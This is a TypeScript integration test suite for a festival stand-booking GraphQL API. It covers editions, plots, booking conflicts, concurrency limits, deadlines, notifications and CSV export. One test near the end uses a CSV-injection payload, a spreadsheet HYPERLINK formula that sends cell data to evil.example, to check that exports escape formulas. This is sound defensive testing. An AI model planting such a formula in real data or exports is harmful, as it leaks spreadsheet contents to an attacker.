import { parse } from 'csv-parse/sync';
import { at, BOOK_STAND, bookingInput, CREATE_EDITION, createFestival, Festival, SATURDAY, SUNDAY } from './festival-fixtures';
import { createWorld, FIXTURE_PASSWORD, World } from './fixtures';
import { dataOf, errorOf, startTestApi, TestApi } from './test-api';

const AVAILABILITY = `query($e: ID!, $d: Date) { standAvailability(editionId: $e, day: $d) {
  days { date freeCells requestedCells confirmedCells blocks { startsAt endsAt }
         rows { plot { code } cells { startsAt state mine booking { id organisation { name } } } } } } }`;

describe('KortRIJK aan Culturen: editions, plots and stand bookings', () => {
  let api: TestApi;
  let world: World;
  let festival: Festival;
  const as =
    (who: keyof World['tokens']) =>
    (query: string, variables: Record<string, unknown> = {}) =>
      api.gql(query, variables, world.tokens[who]);
  const count = async (sql: string, params: unknown[] = []) => Number((await api.dataSource.query(sql, params))[0].count);

  beforeAll(async () => {
    api = await startTestApi();
    world = await createWorld(api);
    festival = await createFestival(api, world);
  });
  afterAll(() => api?.close());

  describe('editions', () => {
    it('knows the Sinksenfeesten of any year', async () => {
      const dates = await api.gql('{ y2027: festivalDates(year: 2027) { startsOn endsOn } y2026: festivalDates(year: 2026) { startsOn endsOn } }').then(dataOf);
      expect(dates).toEqual({ y2027: { startsOn: '2027-05-14', endsOn: '2027-05-17' }, y2026: { startsOn: '2026-05-22', endsOn: '2026-05-25' } });
    });

    it('gets default opening hours, site and deadline, in Brussels time', async () => {
      const edition = (
        await api
          .gql('query($id: ID!) { festivalEdition(id: $id) { name siteName applicationDeadline openingHours { day startsAt endsAt } plots { code } } }', {
            id: festival.editionId,
          })
          .then(dataOf)
      ).festivalEdition;
      expect(edition.siteName).toBe('Grote Markt');
      expect(edition.applicationDeadline).toBe('2027-04-16T23:59:00+02:00');
      expect(edition.openingHours.filter((b: { day: string }) => b.day === '2027-05-14')).toEqual([
        { day: '2027-05-14', startsAt: at('2027-05-14', '17:00'), endsAt: at('2027-05-14', '20:00') },
        { day: '2027-05-14', startsAt: at('2027-05-14', '20:00'), endsAt: at('2027-05-14', '23:00') },
      ]);
      expect(edition.openingHours).toHaveLength(2 + 3 + 3 + 2);
      expect(edition.plots.map((p: { code: string }) => p.code)).toEqual(['A1', 'A2', 'A3', 'A4']);
    });

    it("copies last year's plots into a new edition, skipping codes it has", async () => {
      const next = dataOf(
        await as('coordinator')(CREATE_EDITION, { i: { name: 'KortRIJK aan Culturen 2028', startsOn: '2028-06-02', endsOn: '2028-06-05' } }),
      ).createFestivalEdition;
      await as('coordinator')('mutation($i: CreateStandPlotInput!) { createStandPlot(input: $i) { id } }', { i: { editionId: next.id, code: 'A1' } }).then(
        dataOf,
      );
      const copied = dataOf(
        await as('coordinator')('mutation($f: ID!, $t: ID!) { copyStandPlots(fromEditionId: $f, toEditionId: $t) { code hasPower mapX } }', {
          f: festival.editionId,
          t: next.id,
        }),
      ).copyStandPlots;
      expect(copied).toEqual([
        { code: 'A2', hasPower: false, mapX: 30 },
        { code: 'A3', hasPower: false, mapX: 50 },
        { code: 'A4', hasPower: true, mapX: 70 },
      ]);
      const again = dataOf(
        await as('coordinator')('mutation($f: ID!, $t: ID!) { copyStandPlots(fromEditionId: $f, toEditionId: $t) { code } }', {
          f: festival.editionId,
          t: next.id,
        }),
      ).copyStandPlots;
      expect(again).toEqual([]);
    });
  });

  describe('booking', () => {
    it('an organiser requests, a coordinator confirms; adjacent slots both succeed', async () => {
      const morning = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A1', '11:00', '15:00') })).bookStand;
      const afternoon = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A1', '15:00', '19:00') })).bookStand;
      expect([morning.status, afternoon.status]).toEqual(['REQUESTED', 'REQUESTED']);
      expect(morning.day).toBe(SATURDAY);
      const confirmed = dataOf(
        await as('coordinator')('mutation($id: ID!) { confirmStandBooking(id: $id) { status decidedAt } }', { id: morning.id }),
      ).confirmStandBooking;
      expect(confirmed.status).toBe('CONFIRMED');
      const plan = dataOf(await as('organiser')(AVAILABILITY, { e: festival.editionId, d: SATURDAY })).standAvailability;
      expect(plan.days).toHaveLength(1);
      const a1 = plan.days[0].rows.find((row: { plot: { code: string } }) => row.plot.code === 'A1');
      expect(a1.cells.map((c: { state: string; mine: boolean }) => [c.state, c.mine])).toEqual([
        ['CONFIRMED', true],
        ['REQUESTED', true],
        ['FREE', false],
      ]);
      expect(a1.cells[0].booking).toEqual({ id: morning.id, organisation: { name: 'Afghaanse Vereniging' } });
    });

    it('shows a taken slot to another association without saying whose it is', async () => {
      const other = await otherAssociation('Syrische Gemeenschap');
      const plan = dataOf(await api.gql(AVAILABILITY, { e: festival.editionId, d: SATURDAY }, other.token)).standAvailability;
      const a1 = plan.days[0].rows.find((row: { plot: { code: string } }) => row.plot.code === 'A1');
      expect(a1.cells.map((c: { state: string; mine: boolean; booking: unknown }) => [c.state, c.mine, c.booking])).toEqual([
        ['CONFIRMED', false, null],
        ['REQUESTED', false, null],
        ['FREE', false, null],
      ]);
      const taken = errorOf(
        await api.gql(BOOK_STAND, { i: { ...bookingInput(festival, world, 'A1', '14:00', '16:00'), organisationId: other.organisationId } }, other.token),
      );
      expect(taken.code).toBe('STAND_UNAVAILABLE');
      expect(taken.message).toContain('Plot A1 is taken on 2027-05-15 from 11:00 to 15:00');
      expect(taken.extensions.conflict).toEqual({ startsAt: '2027-05-15T09:00:00.000Z', endsAt: '2027-05-15T13:00:00.000Z', status: 'CONFIRMED' });
      expect(await count(`SELECT count(*) FROM stand_booking WHERE organisation_id = $1`, [other.organisationId])).toBe(0);
    });

    it('100 concurrent requests for overlapping slots of one plot: exactly one wins', async () => {
      const associations = await Promise.all(
        ['Marokkaanse Vereniging', 'Oekraïense Gemeenschap', 'Somalische Vereniging', 'Eritrese Gemeenschap'].map(otherAssociation),
      );
      const requests = Array.from({ length: 100 }, (_, i) => {
        const association = associations[i % associations.length];
        // Every request overlaps every other: all contain 16:00-17:00 on Sunday.
        const from = ['11:00', '15:00', '16:00', '12:30'][i % 4];
        const to = ['17:00', '19:00', '23:00', '18:00'][Math.floor(i / 4) % 4];
        return api.gql(
          BOOK_STAND,
          { i: { plotId: festival.plots.A3, organisationId: association.organisationId, startsAt: at(SUNDAY, from), endsAt: at(SUNDAY, to) } },
          association.token,
        );
      });
      const results = await Promise.all(requests);
      const won = results.filter((r) => r.data?.bookStand);
      const refused = results.filter((r) => r.errors?.[0]?.extensions?.code === 'STAND_UNAVAILABLE');
      expect([won.length, refused.length]).toEqual([1, 99]);
      expect(results.every((r) => r.status === 200)).toBe(true);
      expect(await count(`SELECT count(*) FROM stand_booking WHERE plot_id = $1 AND status <> 'CANCELLED'`, [festival.plots.A3])).toBe(1);
    });

    it('an application asks for several slots, all or nothing', async () => {
      const apply = `mutation($i: ApplyForStandInput!) { applyForStand(input: $i) { application { id community countryCode offering organisation { id } bookings { id } } bookings { id status plot { code } } } }`;
      const slots = [bookingInput(festival, world, 'A2', '11:00', '23:00', SUNDAY), bookingInput(festival, world, 'A1', '12:00', '13:00')].map(
        ({ organisationId: _o, ...slot }) => slot,
      );
      const before = await count(`SELECT count(*) FROM stand_booking`);
      const refused = errorOf(
        await as('organiser')(apply, {
          i: {
            editionId: festival.editionId,
            organisationId: world.associationId,
            offering: 'FOOD',
            community: 'Afghaanse gemeenschap',
            countryCode: 'af',
            slots,
          },
        }),
      );
      expect(refused.code).toBe('STAND_UNAVAILABLE');
      expect(await count(`SELECT count(*) FROM stand_booking`)).toBe(before);
      expect(await count(`SELECT count(*) FROM stand_application WHERE organisation_id = $1`, [world.associationId])).toBe(0);

      const applied = dataOf(
        await as('organiser')(apply, {
          i: {
            editionId: festival.editionId,
            organisationId: world.associationId,
            offering: 'FOOD_AND_CULTURE',
            community: 'Afghaanse gemeenschap',
            countryCode: 'af',
            slots: [slots[0]],
          },
        }),
      ).applyForStand;
      expect(applied.application).toMatchObject({
        community: 'Afghaanse gemeenschap',
        countryCode: 'AF',
        offering: 'FOOD_AND_CULTURE',
        organisation: { id: world.associationId },
      });
      expect(applied.bookings.map((b: { status: string; plot: { code: string } }) => [b.status, b.plot.code])).toEqual([['REQUESTED', 'A2']]);
      expect(applied.application.bookings.map((b: { id: string }) => b.id)).toEqual([applied.bookings[0].id]);
      const received = await api.dataSource.query(`SELECT user_id, kind, payload FROM notification WHERE stand_booking_id = $1`, [applied.bookings[0].id]);
      expect(received).toEqual([{ user_id: world.userIds.organiser, kind: 'STAND_APPLICATION_RECEIVED', payload: { bookingIds: [applied.bookings[0].id] } }]);
    });

    it('refuses with a reason the organiser reads, and moves a booking within the rules', async () => {
      const booking = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A4', '11:00', '15:00', '2027-05-17') })).bookStand;
      const refused = dataOf(
        await as('coordinator')('mutation($id: ID!) { refuseStandBooking(id: $id, reason: "A4 is voor de foodtrucks") { status reason } }', { id: booking.id }),
      ).refuseStandBooking;
      expect(refused).toEqual({ status: 'CANCELLED', reason: 'A4 is voor de foodtrucks' });
      const seen = dataOf(
        await as('organiser')('query($e: ID!) { standBookings(editionId: $e, filter: { status: CANCELLED }) { id reason } }', { e: festival.editionId }),
      ).standBookings;
      expect(seen).toContainEqual({ id: booking.id, reason: 'A4 is voor de foodtrucks' });
      expect(await api.dataSource.query(`SELECT kind, status FROM notification WHERE stand_booking_id = $1 ORDER BY created_at`, [booking.id])).toEqual([
        { kind: 'STAND_APPLICATION_RECEIVED', status: 'CANCELLED' },
        { kind: 'STAND_REFUSED', status: 'PENDING' },
      ]);

      const monday = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A2', '11:00', '15:00', '2027-05-17') })).bookStand;
      const onto = errorOf(
        await as('coordinator')('mutation($id: ID!, $i: MoveStandBookingInput!) { moveStandBooking(id: $id, input: $i) { id } }', {
          id: monday.id,
          i: { plotId: festival.plots.A1, startsAt: at(SATURDAY, '12:00'), endsAt: at(SATURDAY, '14:00') },
        }),
      );
      expect(onto.code).toBe('STAND_UNAVAILABLE');
      const moved = dataOf(
        await as('coordinator')(
          'mutation($id: ID!, $i: MoveStandBookingInput!) { moveStandBooking(id: $id, input: $i) { status day startsAt plot { code } } }',
          { id: monday.id, i: { plotId: festival.plots.A3, startsAt: at('2027-05-17', '15:00'), endsAt: at('2027-05-17', '20:00') } },
        ),
      ).moveStandBooking;
      expect(moved).toEqual({ status: 'REQUESTED', day: '2027-05-17', startsAt: at('2027-05-17', '15:00'), plot: { code: 'A3' } });
      expect(await count(`SELECT count(*) FROM notification WHERE stand_booking_id = $1 AND kind = 'STAND_MOVED'`, [monday.id])).toBe(1);
    });

    it('confirming writes the confirmation and reminders a week and a day before the day opens', async () => {
      const booking = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A2', '17:00', '20:00', '2027-05-14') })).bookStand;
      await as('coordinator')('mutation($id: ID!) { confirmStandBooking(id: $id) { id } }', { id: booking.id }).then(dataOf);
      const reminders = await api.dataSource.query(
        `SELECT offset_minutes, due_at FROM notification WHERE kind = 'STAND_REMINDER' AND payload->>'day' = '2027-05-14' AND user_id = $1 ORDER BY offset_minutes`,
        [world.userIds.organiser],
      );
      expect(reminders.map((r: { offset_minutes: number; due_at: Date }) => [r.offset_minutes, r.due_at.toISOString()])).toEqual([
        [1440, '2027-05-13T15:00:00.000Z'],
        [10080, '2027-05-07T15:00:00.000Z'],
      ]);
      expect(await count(`SELECT count(*) FROM notification WHERE kind = 'STAND_CONFIRMED' AND stand_booking_id = $1`, [booking.id])).toBe(1);
    });
  });

  describe('rules', () => {
    const nothingWritten = async (act: () => Promise<unknown>) => {
      const before = [
        await count(`SELECT count(*) FROM stand_booking`),
        await count(`SELECT count(*) FROM notification`),
        await count(`SELECT count(*) FROM stand_application`),
      ];
      await act();
      expect([
        await count(`SELECT count(*) FROM stand_booking`),
        await count(`SELECT count(*) FROM notification`),
        await count(`SELECT count(*) FROM stand_application`),
      ]).toEqual(before);
    };

    it.each([
      ['before opening', 'A3', '09:00', '12:00', SATURDAY, 'OUTSIDE_OPENING_HOURS'],
      ['after closing', 'A3', '21:00', '23:30', SATURDAY, 'OUTSIDE_OPENING_HOURS'],
      ['on a day outside the festival', 'A3', '12:00', '13:00', '2027-05-18', 'OUTSIDE_OPENING_HOURS'],
      ['ending before it starts', 'A3', '15:00', '13:00', SATURDAY, 'BAD_USER_INPUT'],
      ['ending when it starts', 'A3', '15:00', '15:00', SATURDAY, 'BAD_USER_INPUT'],
    ])('refuses a booking %s', async (_what, code, from, to, day, expected) => {
      await nothingWritten(async () => {
        expect(errorOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, code, from, to, day) })).code).toBe(expected);
      });
    });

    it('refuses an inactive plot to organisers', async () => {
      await as('coordinator')('mutation($id: ID!) { updateStandPlot(id: $id, input: { active: false }) { active } }', { id: festival.plots.A3 }).then(dataOf);
      try {
        await nothingWritten(async () => {
          const error = errorOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A3', '19:00', '23:00') }));
          expect([error.code, error.extensions.reason]).toEqual(['STAND_UNAVAILABLE', 'PLOT_INACTIVE']);
        });
      } finally {
        await as('coordinator')('mutation($id: ID!) { updateStandPlot(id: $id, input: { active: true }) { active } }', { id: festival.plots.A3 }).then(dataOf);
      }
    });

    it("refuses a booking for another association than the organiser's own", async () => {
      const other = await otherAssociation('Turkse Vereniging');
      await nothingWritten(async () => {
        expect(
          errorOf(await as('organiser')(BOOK_STAND, { i: { ...bookingInput(festival, world, 'A3', '19:00', '23:00'), organisationId: other.organisationId } }))
            .code,
        ).toBe('FORBIDDEN');
      });
    });

    it('holds an association to the plots-per-day limit', async () => {
      // On Sunday the association already asked for A2 (its application): a second plot is allowed, a third is not.
      const limitDay = '2027-05-16';
      const first = dataOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A4', '11:00', '15:00', limitDay) })).bookStand;
      await nothingWritten(async () => {
        const error = errorOf(await as('organiser')(BOOK_STAND, { i: bookingInput(festival, world, 'A1', '19:00', '23:00', limitDay) }));
        expect([error.code, error.extensions.limit]).toEqual(['STAND_LIMIT_REACHED', 2]);
      });
      await as('organiser')('mutation($id: ID!) { cancelStandBooking(id: $id) { status } }', { id: first.id }).then(dataOf);
    });

    it('closes applications at the deadline for organisers, not for coordinators', async () => {
      const late = await startTestApi({ sharing: api, now: new Date('2027-04-17T08:00:00Z') });
      try {
        await nothingWritten(async () => {
          const error = errorOf(await late.gql(BOOK_STAND, { i: bookingInput(festival, world, 'A4', '19:00', '23:00') }, world.tokens.organiser));
          expect(error.code).toBe('DEADLINE_PASSED');
        });
        const byCity = dataOf(await late.gql(BOOK_STAND, { i: bookingInput(festival, world, 'A4', '19:00', '23:00') }, world.tokens.coordinator)).bookStand;
        expect(byCity.status).toBe('CONFIRMED');
        await late
          .gql('mutation($id: ID!) { cancelStandBooking(id: $id, reason: "test") { status } }', { id: byCity.id }, world.tokens.coordinator)
          .then(dataOf);
      } finally {
        await late.close();
      }
    });

    it('keeps opening hours that live bookings need', async () => {
      const error = errorOf(
        await as('coordinator')('mutation($e: ID!, $h: [OpeningBlockInput!]!) { setFestivalOpeningHours(editionId: $e, openingHours: $h) { id } }', {
          e: festival.editionId,
          h: [{ date: SATURDAY, from: '12:00', to: '18:00' }],
        }),
      );
      expect(error.code).toBe('CONFLICT');
      expect(await count(`SELECT count(*) FROM festival_opening_block WHERE edition_id = $1`, [festival.editionId])).toBe(10);
    });
  });

  it('exports the confirmed stands of a day as CSV', async () => {
    const csv = dataOf(
      await as('coordinator')('query($e: ID!, $d: Date) { confirmedStandsCsv(editionId: $e, day: $d) }', { e: festival.editionId, d: SATURDAY }),
    ).confirmedStandsCsv;
    const rows = parse(csv, { columns: true, delimiter: ';', bom: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThanOrEqual(1);
    for (const row of rows) expect(row.day).toBe(SATURDAY);
    expect(rows[0]).toMatchObject({ from: '11:00', to: '15:00', plot: 'A1', association: 'Afghaanse Vereniging', contacts: 'organiser@test.oefenkansen.be' });
    expect(csv.split('\r\n')[0]).toBe(
      '\uFEFFday;from;to;plot;width_m;depth_m;association;community;country;offering;needs_power;needs_water;cooking;plot_power;plot_water;plot_cooking;contacts',
    );
    const total = dataOf(await as('coordinator')('query($e: ID!) { confirmedStandsCsv(editionId: $e) }', { e: festival.editionId })).confirmedStandsCsv;
    const confirmed = await count(`SELECT count(*) FROM stand_booking WHERE edition_id = $1 AND status = 'CONFIRMED'`, [festival.editionId]);
    expect((parse(total, { columns: true, delimiter: ';', bom: true }) as unknown[]).length).toBe(confirmed);
  });

  it('exports what an association typed as text, never as a formula (CSV injection)', async () => {
    const own = await createFestival(api, world, { name: 'Culturen CSV-injectie' });
    const community = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
    const apply = `mutation($i: ApplyForStandInput!) { applyForStand(input: $i) { bookings { status } } }`;
    const slot = { plotId: own.plots.A1, startsAt: at(SATURDAY, '11:00'), endsAt: at(SATURDAY, '15:00') };
    const applied = dataOf(
      await as('coordinator')(apply, {
        i: { editionId: own.editionId, organisationId: world.associationId, offering: 'FOOD', community, countryCode: 'af', slots: [slot] },
      }),
    ).applyForStand;
    expect(applied.bookings).toEqual([{ status: 'CONFIRMED' }]);
    const csv = dataOf(await as('coordinator')('query($e: ID!) { confirmedStandsCsv(editionId: $e) }', { e: own.editionId })).confirmedStandsCsv as string;
    const [row] = parse(csv, { columns: true, delimiter: ';', bom: true }) as Record<string, string>[];
    expect(row.community).toBe(`'${community}`);
    expect(row.association).toBe('Afghaanse Vereniging');
  });

  /** A new association with an organiser who is logged in. */
  async function otherAssociation(name: string): Promise<{ organisationId: string; token: string }> {
    const organisationId = dataOf(
      await as('admin')('mutation($i: CreateOrganisationInput!) { createOrganisation(input: $i) { id } }', { i: { name, kind: 'ASSOCIATION' } }),
    ).createOrganisation.id;
    const email = `${name.toLowerCase().replace(/[^a-z]+/g, '-')}@test.oefenkansen.be`;
    await as('admin')('mutation($i: CreateUserInput!) { createUser(input: $i) { id } }', {
      i: { email, password: FIXTURE_PASSWORD, displayName: name, roles: ['FESTIVAL_ORGANISER'], organisationId },
    }).then(dataOf);
    return { organisationId, token: await api.login(email, FIXTURE_PASSWORD) };
  }
});
